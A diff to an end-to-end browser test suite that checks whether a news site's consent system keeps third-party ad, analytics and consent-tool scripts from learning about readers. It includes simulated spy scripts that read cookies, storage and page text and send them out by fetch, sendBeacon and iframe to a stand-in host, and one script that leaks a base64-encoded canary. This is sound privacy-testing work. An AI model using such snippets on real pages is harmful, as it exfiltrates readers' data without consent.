@@ -58,8 +58,8 @@ const article = {
   ],
 };
 
-/** The script of a partner who wants to know everything, and tells what it has found in every way that it has. */
-const spyScript = `(() => {
+/** The script of a partner who wants to know everything, tells what it has found in every way that it has, and then does its work. */
+const spyScript = (work: string): string => `(() => {
   const seen = [];
   const look = (name, find) => { try { seen.push([name, String(find())]); } catch (error) { seen.push([name, 'refused']); } };
   look('given', () => JSON.stringify(outside.given));
@@ -86,8 +86,30 @@ const spyScript = `(() => {
   fetch(elsewhere + '/collect', { method: 'POST', mode: 'no-cors' }).catch(() => {});
   navigator.sendBeacon?.(elsewhere + '/beacon', JSON.stringify(seen));
   document.body.append(Object.assign(document.createElement('iframe'), { src: elsewhere + '/frame' }));
-  outside.say({ kind: 'filled', width: 300, height: 250 });
+  ${work}
 })();`;
+
+const fillScript = spyScript("outside.say({ kind: 'filled', width: 300, height: 250 });");
+
+/** What the tool that asks readers does: it has nothing to ask, or has a button for each answer. */
+const toolScripts = {
+  silent: spyScript("outside.say({ kind: 'empty' });"),
+  asking: spyScript(`
+    let hear;
+    globalThis.__tcfapi = (command, version, listener) => { if (command === 'addEventListener') hear = listener; };
+    const answer = (isYes) => {
+      const consents = Object.fromEntries(Array.from({ length: 11 }, (_, at) => [at + 1, isYes]));
+      hear({ eventStatus: 'useractioncomplete', purpose: { consents }, vendor: { consents: { 755: isYes } } }, true);
+    };
+    for (const [text, isYes] of [['Yes to all', true], ['No to all', false]]) {
+      const onclick = () => setTimeout(answer, 100, isYes);
+      document.body.append(Object.assign(document.createElement('button'), { textContent: text, onclick }));
+    }
+    const asks = setInterval(() => { if (hear) { clearInterval(asks); hear({ eventStatus: 'cmpuishown' }, true); } }, 50);
+  `),
+  /** As one that had learned a word of the page somehow would tell it. */
+  leaking: `fetch(new URL('/collect?' + ${JSON.stringify(Buffer.from(canaries.title).toString('base64'))}, document.currentScript.src), { mode: 'no-cors' });`,
+};
 
 /** What the partner's server was told, request by request. */
 const told: { url: string; headers: Record<string, string>; body: string }[] = [];
@@ -104,9 +126,14 @@ const originOf = (server: Server): string => `http://127.0.0.1:${(server.address
 /** What a host was told that no partner of the list is. */
 const toldElsewhere: string[] = [];
 
+/** What the tool that asks readers was told, and what it does. */
+const toldTool: typeof told = [];
+let toolDoes: keyof typeof toolScripts;
+
 let cms: Server;
 let elsewhere: Server;
 let partner: Server;
+let tool: Server;
 let site: BuiltServer;
 let folder: string;
 let context: BrowserContext;
@@ -126,16 +153,22 @@ beforeAll(async () => {
     response.writeHead(body ? 200 : 404, { 'Content-Type': 'application/json' });
     response.end(JSON.stringify(body ?? {}));
   });
-  partner = await listening((request, response) => {
-    let body = '';
-    request.on('data', (chunk: Buffer) => (body += chunk.toString()));
-    request.on('end', () => {
-      told.push({ url: request.url ?? '', headers: request.headers as Record<string, string>, body });
-      const isSuggesting = request.url?.startsWith('/suggest');
-      response.setHeader('Content-Type', isSuggesting ? 'application/json' : 'text/javascript');
-      response.end(isSuggesting ? '["", []]' : request.url?.startsWith('/tag.js') ? spyScript : '');
+  const hearing = (heard: typeof told, answer: (url: string) => string) =>
+    listening((request, response) => {
+      const { url = '' } = request;
+      let body = '';
+      request.on('data', (chunk: Buffer) => (body += chunk.toString()));
+      request.on('end', () => {
+        heard.push({ url, headers: request.headers as Record<string, string>, body });
+        const type = url.startsWith('/suggest') ? 'application/json' : 'text/javascript';
+        response.writeHead(200, { 'Content-Type': type, 'Cache-Control': 'no-store' });
+        response.end(answer(url));
+      });
     });
-  });
+  partner = await hearing(told, (url) =>
+    url.startsWith('/suggest') ? '["", []]' : url.startsWith('/tag.js') ? fillScript : '',
+  );
+  tool = await hearing(toldTool, (url) => (url.startsWith('/tool.js') ? toolScripts[toolDoes] : ''));
   elsewhere = await listening((request, response) => {
     toldElsewhere.push(request.url ?? '');
     response.end();
@@ -144,6 +177,13 @@ beforeAll(async () => {
   const partners = [
     { name: 'adlark', company: 'Adlark', kind: 'ads', script, purposes: [1, 2, 3, 4, 7], vendorId: 755 },
     { name: 'countwell', company: 'Countwell', kind: 'analytics', script, purposes: [1, 8] },
+    {
+      name: 'consentwell',
+      company: 'Consentwell',
+      kind: 'consent',
+      script: `${originOf(tool)}/tool.js?elsewhere=${originOf(elsewhere)}`,
+      purposes: [1],
+    },
   ];
   const configuration = join(folder, 'site.json');
   const newsletter = { lists: [{ name: 'letters', title: 'Letters' }] };
@@ -171,7 +211,7 @@ beforeAll(async () => {
 });
 afterAll(async () => {
   await site.stop();
-  for (const server of [cms, partner, elsewhere]) {
+  for (const server of [cms, partner, tool, elsewhere]) {
     server.closeAllConnections();
     server.close();
   }
@@ -180,6 +220,8 @@ afterAll(async () => {
 
 interface Reader {
   country: string;
+  /** What the tool does that asks for the publisher. */
+  does?: keyof typeof toolScripts;
   gpc?: boolean;
   /** What of ours their browser does not let through, as tools against consent prompts do. */
   blocked?: RegExp;
@@ -192,8 +234,10 @@ async function madeRequest(request: Request): Promise<MadeRequest> {
 }
 
 /** A reader who comes from a search engine, with everything recorded that any frame asks for. */
-async function arrive({ country, gpc = false, blocked }: Reader): Promise<void> {
+async function arrive({ country, does = 'silent', gpc = false, blocked }: Reader): Promise<void> {
+  toolDoes = does;
   told.length = 0;
+  toldTool.length = 0;
   toldElsewhere.length = 0;
   refused.clear();
   requests = [];
@@ -221,6 +265,13 @@ async function arrive({ country, gpc = false, blocked }: Reader): Promise<void> 
   }, canaries);
 }
 
+/** Answers in the place of our question, once the tool may be pressed. */
+async function answerTool(name: string): Promise<void> {
+  await page.mouse.move(300, 700);
+  await page.waitForSelector('[data-outside=consentwell]:not([inert])');
+  await page.frameLocator('iframe[title=Consentwell]').getByRole('button', { name }).click();
+}
+
 const settled = (state: string): Promise<unknown> => page.waitForSelector(`html[data-consent=${state}]`);
 
 /** Does what a reader does who says everything about themselves. */
@@ -246,7 +297,37 @@ async function signUp(): Promise<void> {
   expect([202, 429]).toContain((await answered).status());
 }
 
-async function leaks(allowed: readonly string[] = []): Promise<string[]> {
+/** The tool has come, and has told all that it has found out. */
+async function toolHasSpied(): Promise<void> {
+  const has = (beginning: string) => toldTool.some(({ url }) => url.startsWith(beginning));
+  for (let tries = 0; tries < 100 && !(has('/collect') && has('/pixel')); tries++)
+    await page.waitForTimeout(50);
+}
+
+/** That somebody is here, and from which site they are asked: that is what the tool knows. */
+function expectToolKnowsLittle(country: string): void {
+  expect(toldTool.every(({ url }) => /^\/(tool\.js|collect|pixel\?)/.test(url))).toBe(true);
+  for (const { headers } of toldTool)
+    expect([headers.referer, headers.cookie]).toEqual([undefined, undefined]);
+  const collected = toldTool.filter(({ url }) => url === '/collect');
+  expect(collected.length).toBeGreaterThan(0);
+  for (const { body } of collected) {
+    const seen = Object.fromEntries(JSON.parse(body));
+    const given = JSON.parse(seen.given);
+    expect(Object.keys(given).sort()).toEqual(['breakpoint', 'consent', 'country', 'language', 'sizes']);
+    expect(given.country).toBe(country);
+    const nothing = {
+      cookie: 'refused',
+      storage: 'refused',
+      parent: 'refused',
+      title: 'refused',
+      text: 'refused',
+    };
+    expect(seen).toMatchObject({ ...nothing, referrer: '', name: '', ancestors: site.origin });
+  }
+}
+
+async function leaks(allowed: readonly string[] = [originOf(tool)]): Promise<string[]> {
   // That host says itself whether it was asked: a browser tells of requests that its policy then refuses.
   expect(toldElsewhere).toEqual([]);
   const made = await Promise.all(
@@ -268,19 +349,43 @@ describe.each([
     await arrive({ country });
     await settled('none');
     expect(await page.getAttribute('html', 'data-regime')).toBe(regime);
+    await toolHasSpied();
     await readAndAnswer();
     expect(await leaks()).toEqual([]);
     expect(told).toEqual([]);
+    expectToolKnowsLittle(country);
+  });
+
+  test('nothing goes to others where the tool that asks readers is blocked', async () => {
+    await arrive({ country, blocked: /tool\.js/ });
+    await settled('none');
+    await page.waitForSelector('[data-outside=consentwell]', { state: 'attached' });
+    await page.waitForSelector('[data-outside=consentwell]', { state: 'detached' });
+    await readAndAnswer();
+    expect(await leaks()).toEqual([]);
+    expect([told, toldTool]).toEqual([[], []]);
+  });
+
+  test('nothing goes to others after a no to the tool that asks readers, nor to that', async () => {
+    await arrive({ country, does: 'asking' });
+    await answerTool('No to all');
+    await settled('rejected');
+    toldTool.length = 0;
+    await readAndAnswer();
+    expect(await leaks()).toEqual([]);
+    expect([told, toldTool]).toEqual([[], []]);
   });
 
   test('nothing goes to others after a no', async () => {
     await arrive({ country });
     await settled('none');
+    await toolHasSpied();
     await page.getByRole('button', { name: 'Reject all' }).click();
     await settled('rejected');
+    toldTool.length = 0;
     await readAndAnswer();
     expect(await leaks()).toEqual([]);
-    expect(told).toEqual([]);
+    expect([told, toldTool]).toEqual([[], []]);
   });
 
   test('nothing goes to others where the browser says no for its reader, who is not asked', async () => {
@@ -288,8 +393,8 @@ describe.each([
     await settled('rejected');
     expect(await page.getByRole('button', { name: 'Accept all' }).isVisible()).toBe(false);
     await readAndAnswer();
-    expect(await leaks()).toEqual([]);
-    expect(told).toEqual([]);
+    expect(await leaks([])).toEqual([]);
+    expect([told, toldTool]).toEqual([[], []]);
   });
 
   test('nothing goes to others where our own consent is blocked, whatever the reader clicks', async () => {
@@ -299,7 +404,8 @@ describe.each([
     // The button is a form's then, which leads to the page of the choices.
     await page.getByRole('button', { name: 'Accept all' }).click();
     await readAndAnswer();
-    expect(await leaks()).toEqual([]);
+    expect(await leaks([])).toEqual([]);
+    expect(toldTool).toEqual([]);
     // The form has said yes to the server, which has kept it: what it asks itself may go. No browser asks for anything.
     expect(told.filter(({ url }) => !url.startsWith('/suggest?'))).toEqual([]);
   });
@@ -307,8 +413,10 @@ describe.each([
   test('after a yes, listed hosts alone are told, and what is on the list alone', async () => {
     await arrive({ country });
     await settled('none');
+    await toolHasSpied();
     await page.getByRole('button', { name: 'Accept all' }).click();
     await settled('full');
+    toldTool.length = 0;
     await page.waitForSelector('[data-outside=adlark][data-outside-state=filled]');
     await page.waitForSelector('[data-ad-slot=DLB1][data-ad-state=filled]');
     await page.waitForSelector('[data-outside=countwell]', { state: 'attached' });
@@ -317,7 +425,8 @@ describe.each([
     await page.waitForSelector('[data-outside=countwell]', { state: 'attached' });
     await page.waitForLoadState('networkidle');
 
-    expect(await leaks([originOf(partner)])).toEqual([]);
+    expect(await leaks([originOf(partner), originOf(tool)])).toEqual([]);
+    expect(toldTool).toEqual([]);
     const collected = told
       .filter(({ url }) => url === '/collect')
       .map(({ body }) => Object.fromEntries(JSON.parse(body)));
@@ -371,9 +480,28 @@ test('a yes that is taken back takes all frames away at once, and lets no more c
   await settled('rejected');
   expect(await page.locator('iframe').count()).toBe(0);
   told.length = 0;
+  toldTool.length = 0;
   await page.reload();
   await settled('rejected');
   await page.waitForLoadState('networkidle');
-  expect(told).toEqual([]);
+  expect([told, toldTool]).toEqual([[], []]);
   expect((await context.cookies()).map(({ name }) => name).sort()).toEqual(['pagewell_consent', 'usprivacy']);
+});
+
+test('a word of the page that the tool would tell is found', async () => {
+  await arrive({ country: 'DE', does: 'leaking' });
+  await settled('none');
+  for (let tries = 0; tries < 100 && toldTool.length < 2; tries++) await page.waitForTimeout(50);
+  expect(await leaks()).toEqual([expect.stringContaining(`is told ${canaries.title} in base64`)]);
+});
+
+test('a yes to the tool that asks readers is one to all of it, and then it has gone', async () => {
+  await arrive({ country: 'DE', does: 'asking' });
+  await answerTool('Yes to all');
+  await settled('full');
+  toldTool.length = 0;
+  await page.waitForSelector('[data-outside=adlark][data-outside-state=filled]');
+  await readAndAnswer();
+  expect(toldTool).toEqual([]);
+  expect(await page.locator('iframe[title=Consentwell]').count()).toBe(0);
 });
